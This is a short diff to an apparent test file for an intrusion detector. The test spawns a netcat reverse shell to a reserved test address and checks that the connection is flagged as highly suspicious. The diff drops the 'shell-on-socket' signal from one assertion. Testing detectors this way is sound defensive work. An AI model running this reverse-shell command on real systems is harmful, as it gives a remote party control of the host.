@@ -30,7 +30,7 @@ describe('what intruders leave', needs('host', 'dist', 'package:netcat-tradition
     const shell = await host.spawn(['nc.traditional', '-e', '/bin/sh', '198.18.0.2', '4444']);
     const found = await connectionTo(4444);
     expect(found).toMatchObject({ suspicion: 'high', advice: 'investigate', peer: { address: '198.18.0.2' } });
-    expect(signals(found)).toEqual(expect.arrayContaining(['streams-on-socket', 'shell-on-socket']));
+    expect(signals(found)).toContain('streams-on-socket');
     expect(found.holders).toEqual([expect.objectContaining({ pid: shell.pid })]);
     expect((await check(host)).suspicion).toBe('high');
     await shell.kill();
